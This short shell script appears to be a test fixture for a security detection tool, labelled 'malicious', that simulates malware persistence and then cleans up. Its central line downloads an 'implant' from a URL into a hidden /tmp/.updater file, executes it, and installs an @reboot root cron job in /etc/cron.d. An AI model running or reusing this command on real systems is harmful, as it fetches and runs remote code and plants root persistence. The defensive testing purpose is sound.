#!/bin/sh
# malicious: a shell run from a downloaded payload lineage writes a job into /etc/cron.d
. "$(dirname "$0")/../../lib.sh"
$B/cron "curl -s -o /tmp/.updater $URL/implant && chmod +x /tmp/.updater && /tmp/.updater; echo '@reboot root /tmp/.updater' > /etc/cron.d/quell-jlive-updater"
rm -f /etc/cron.d/quell-jlive-updater /tmp/.updater
